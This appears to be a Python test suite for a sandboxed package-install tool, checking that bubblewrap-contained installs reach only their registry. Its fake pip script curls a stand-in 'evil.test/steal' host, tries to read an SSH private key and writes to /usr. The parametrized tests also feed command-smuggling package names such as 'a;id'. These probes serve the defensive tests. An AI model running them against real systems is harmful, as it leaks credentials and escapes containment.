"""The install tool: asks, runs the manager in real bubblewrap, reaches only its registry.

The package manager is a fake script on PATH that records its argv, tries to reach its
registry and another host, and pokes at the sandbox's walls; the internet is a loopback
server behind the egress proxy's test dialer, so no packet leaves the machine.
"""

from __future__ import annotations

import asyncio
import dataclasses
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from bastion.approval.clock import SystemClock
from bastion.approval.memory import MemoryStore
from bastion.approval.model import ApprovalRequest, PermissionDecision
from bastion.audit.keyed import ArgumentHasher
from bastion.audit.ledger import Ledger
from bastion.audit.store import MemoryLedgerStore
from bastion.call.model import ToolCall
from bastion.configuration import Configuration
from bastion.exec import BubblewrapRunner, ExecConfig
from bastion.exec.egress import StaticDialer
from bastion.policy.compiled import Policy
from bastion.policy.engine import Gate
from bastion.policy.network import StaticResolver
from bastion.policy.packages import MANAGERS
from bastion.runtime import Gatekeeper
from bastion.tools import ToolContext
from bastion.tools.install import MAX_INSTALL_OUTPUT, DetectToolsTool, InstallTool, RegistryGate
from tests.conftest import PolicyFactory
from tests.exec.egress_helpers import Upstream, start_upstream
from tests.exec.sandbox_helpers import require_bwrap

ADDRESSES = {"pypi.org": "1.1.1.20", "evil.test": "1.1.1.21"}
# Records its argv, reaches for the registry and for another host, then tests the walls.
FAKE_PIP = """#!/bin/sh
printf '%s\\n' "$@" > "$PWD/argv.txt"
curl -sS --max-time 30 -w ' [%{http_code}]\\n' http://pypi.org/simple/requests/
curl -sS --max-time 30 -w ' [%{http_code}]\\n' http://evil.test/steal
cat "$HOME/.ssh/id_rsa" >/dev/null 2>&1 && echo "read the key" || echo "no key"
touch /usr/pwned 2>/dev/null && echo "wrote /usr" || echo "no /usr"
"""
FLOOD = "#!/bin/sh\nhead -c 2000000 /dev/zero | tr '\\0' x\n"


@pytest.fixture
def upstreams() -> Iterator[dict[str, Upstream]]:
    servers = {name: start_upstream(name) for name in ADDRESSES}
    yield servers
    for server in servers.values():
        server.close()


def script(directory: Path, name: str, text: str, mode: int = 0o755) -> Path:
    directory.mkdir(exist_ok=True)
    path = directory / name
    path.write_text(text)
    path.chmod(mode)
    return path


@pytest.fixture
def fakebin(tmp_path: Path) -> Path:
    return tmp_path / "fakebin"


class Person:
    """Answers every parked call in code, and remembers what it was asked."""

    def __init__(self, kind: str = "once") -> None:
        self.kind = kind
        self.asked: list[ApprovalRequest] = []

    def __call__(self, request: ApprovalRequest) -> PermissionDecision:
        self.asked.append(request)
        return PermissionDecision(kind=self.kind)  # type: ignore[arg-type]


def keeper_for(policy: Policy, person: Person) -> Gatekeeper:
    return Gatekeeper(
        Gate(policy, resolver=StaticResolver({h: [a] for h, a in ADDRESSES.items()}), sandboxed=True),
        store=MemoryStore(),
        clock=SystemClock(),
        ledger=Ledger(MemoryLedgerStore(), hasher=ArgumentHasher(b"k" * 32)),
        on_permission=person,
    )


def install_tool(
    policy: Policy,
    keeper: Gatekeeper,
    workspace: Path,
    home: Path,
    fakebin: Path,
    upstreams: dict[str, Upstream] | None = None,
    *,
    interactive: bool = True,
    path: str | None = None,
) -> InstallTool:
    table = {(ADDRESSES[h], 80): ("127.0.0.1", u.port) for h, u in (upstreams or {}).items()}
    ctx = ToolContext(
        configuration=Configuration(policy, exec=ExecConfig(timeout=60)),
        authorizer=keeper,
        runner=BubblewrapRunner(),
        resolver=StaticResolver({h: [a] for h, a in ADDRESSES.items()}),
        cwd=str(workspace),
        environ={"HOME": str(home), "PATH": path or f"{fakebin}:/usr/bin:/bin", "LANG": "C.UTF-8"},
        interactive=interactive,
        dialer=StaticDialer(table),
    )
    return InstallTool(ctx)


def run(tool: Any, args: dict[str, Any]) -> dict[str, Any]:
    result: dict[str, Any] = asyncio.run(tool.run(args))
    return result


def test_an_approved_install_runs_contained_and_reaches_only_the_registry(
    make_policy: PolicyFactory, workspace: Path, home: Path, fakebin: Path, upstreams: dict[str, Upstream]
) -> None:
    require_bwrap()
    script(fakebin, "pip", FAKE_PIP)
    # The policy allows evil.test for fetch: an install still cannot reach it.
    policy = make_policy('mode = "full-access"\n[network]\nallow_hosts = ["evil.test"]\n')
    person = Person()
    keeper = keeper_for(policy, person)
    tool = install_tool(policy, keeper, workspace, home, fakebin, upstreams)
    result = run(tool, {"manager": "pip", "packages": ["requests==2.32.3"]})

    assert [r.summary for r in person.asked] == ["install: pip requests==2.32.3"]
    assert (result["ok"], result["decision"], result["exit_code"]) == (True, "allow", 0)
    assert (workspace / "argv.txt").read_text().splitlines() == [
        "install",
        "--no-input",
        "--disable-pip-version-check",
        "--",
        "requests==2.32.3",
    ]
    assert result["stdout"] == (
        "hello from pypi.org GET /simple/requests/\n [200]\n"
        "bastion egress: evil.test:80 refused: [policy-denied] an install with pip reaches only "
        "its registry (pypi.org, files.pythonhosted.org), not evil.test\n [403]\n"
        "no key\nno /usr\n"
    )
    assert [s.path for s in upstreams["pypi.org"].seen] == ["/simple/requests/"]
    assert upstreams["evil.test"].seen == []
    assert result["data"] == {
        "runner": "bubblewrap",
        "manager": "pip",
        "registry": ["pypi.org", "files.pythonhosted.org"],
    }
    connections = [(e.event.tool, e.event.decision, e.event.rule) for e in keeper.ledger.events()]
    assert ("fetch", "allow", "install.registry") in connections
    assert ("fetch", "deny", "install.registry-only") in connections


def test_install_output_is_capped(
    make_policy: PolicyFactory, workspace: Path, home: Path, fakebin: Path
) -> None:
    require_bwrap()
    script(fakebin, "npm", FLOOD)
    policy = make_policy()
    tool = install_tool(policy, keeper_for(policy, Person()), workspace, home, fakebin)
    result = run(tool, {"manager": "npm", "packages": ["left-pad@1.3.0"]})
    cut = f"\n[bastion: output cut at {MAX_INSTALL_OUTPUT} bytes; {2_000_000 - MAX_INSTALL_OUTPUT} more bytes not shown]\n"
    assert (result["ok"], result["truncated"], result["stdout"]) == (
        True,
        True,
        "x" * MAX_INSTALL_OUTPUT + cut,
    )


def test_a_non_interactive_install_is_refused_and_nothing_runs(
    make_policy: PolicyFactory, workspace: Path, home: Path, fakebin: Path
) -> None:
    script(fakebin, "pip", FAKE_PIP)
    policy = make_policy('mode = "full-access"\n')
    person = Person()
    tool = install_tool(policy, keeper_for(policy, person), workspace, home, fakebin, interactive=False)
    result = run(tool, {"manager": "pip", "packages": ["requests"]})
    assert (result["ok"], result["decision"], [r["rule"] for r in result["reasons"]]) == (
        False,
        "deny",
        ["install.non-interactive"],
    )
    assert (person.asked, (workspace / "argv.txt").exists()) == ([], False)


@pytest.mark.parametrize(
    "package", ["-r", "--index-url=https://evil.test/simple", "../x", "a;id", "git+https://x/y"]
)
def test_an_invalid_package_is_denied_before_anyone_is_asked(
    make_policy: PolicyFactory, workspace: Path, home: Path, fakebin: Path, package: str
) -> None:
    script(fakebin, "pip", FAKE_PIP)
    policy = make_policy()
    person = Person()
    tool = install_tool(policy, keeper_for(policy, person), workspace, home, fakebin)
    result = run(tool, {"manager": "pip", "packages": ["requests", package]})
    assert (result["decision"], [r["rule"] for r in result["reasons"]]) == (
        "deny",
        ["install.invalid-package"],
    )
    assert (person.asked, (workspace / "argv.txt").exists()) == ([], False)


def test_an_unknown_manager_is_refused_by_the_schema(
    make_policy: PolicyFactory, workspace: Path, home: Path, fakebin: Path
) -> None:
    policy = make_policy()
    tool = install_tool(policy, keeper_for(policy, Person()), workspace, home, fakebin)
    result = run(tool, {"manager": "curl", "packages": ["x"]})
    assert (result["decision"], result["message"]) == (
        "deny",
        "install: argument 'manager' must be one of: pip, npm, cargo, gem, apt",
    )


def test_a_standing_grant_covers_that_manager_and_exactly_those_packages(
    make_policy: PolicyFactory, workspace: Path
) -> None:
    policy = make_policy()
    keeper = keeper_for(policy, Person("always"))

    def install(*packages: str) -> ToolCall:
        args = {"manager": "pip", "packages": list(packages)}
        return ToolCall("install", args, cwd=str(workspace), interactive=True)

    assert asyncio.run(keeper.request(install("requests==2.32.3"))).decision.label == "allow"
    assert keeper.decide(install("requests==2.32.3")).reasons[0].rule == "grant.exact"
    assert keeper.decide(install("requests==2.32.3", "rich")).decision.label == "ask"
    assert keeper.decide(install("requests")).decision.label == "ask"


def test_a_missing_manager_is_reported_after_the_approval(
    make_policy: PolicyFactory, workspace: Path, home: Path, fakebin: Path
) -> None:
    require_bwrap()
    fakebin.mkdir()
    policy = make_policy()
    tool = install_tool(policy, keeper_for(policy, Person()), workspace, home, fakebin, path=str(fakebin))
    result = run(tool, {"manager": "gem", "packages": ["rake"]})
    assert (result["ok"], result["decision"], result["message"]) == (
        False,
        "allow",
        "gem is not installed here (detect_tools lists what is)",
    )


def test_the_registry_gate_keeps_the_policy_s_denials_and_refuses_every_other_host(
    make_policy: PolicyFactory,
) -> None:
    policy = make_policy('mode = "full-access"\n[network]\ndeny_hosts = ["files.pythonhosted.org"]\n')
    gate = RegistryGate(Gate(policy, resolver=StaticResolver({})), MANAGERS["pip"])

    def rule(url: str) -> tuple[str, str]:
        evaluation = gate.evaluate(ToolCall("fetch", {"url": url}, interactive=False))
        return evaluation.decision.label, evaluation.reasons[0].rule

    assert rule("https://pypi.org:443/") == ("allow", "install.registry")
    assert rule("https://files.pythonhosted.org:443/") == ("deny", "network.deny_hosts")
    assert rule("https://example.com:443/") == ("deny", "install.registry-only")
    assert rule("https://pypi.org.evil.test:443/") == ("deny", "install.registry-only")
    # In workspace mode with no allow_hosts the registry would ask: the approved install covers it.
    workspace = RegistryGate(Gate(make_policy(), resolver=StaticResolver({})), MANAGERS["pip"])
    allowed = workspace.evaluate(ToolCall("fetch", {"url": "https://pypi.org:443/"}, interactive=False))
    assert (allowed.decision.label, allowed.reasons[0].rule) == ("allow", "install.registry")


def test_detect_tools_finds_executables_on_path_without_running_them(
    make_tools: Any, workspace: Path, home: Path, fakebin: Path
) -> None:
    ran = fakebin / "ran"
    script(fakebin, "pip", f"#!/bin/sh\ntouch {ran}\n")
    script(fakebin, "npm", "#!/bin/sh\n", mode=0o644)  # no exec bit: not a tool
    script(fakebin, "node", "#!/bin/sh\n")
    ctx = make_tools()["detect_tools"].ctx
    environ = {**ctx.environ, "PATH": f"{fakebin}:{fakebin}/absent"}
    detect = DetectToolsTool(dataclasses.replace(ctx, environ=environ))
    result = run(detect, {})
    assert (result["ok"], result["decision"], result["reasons"][0]["rule"]) == (True, "allow", "tools.detect")
    assert result["data"]["managers"]["pip"] == str(fakebin / "pip")
    assert result["data"]["managers"]["npm"] is None
    assert result["data"]["runtimes"]["node"] == str(fakebin / "node")
    assert result["data"]["runtimes"]["python3"] is None
    assert result["data"]["installable"] == ["pip"]
    assert not ran.exists()
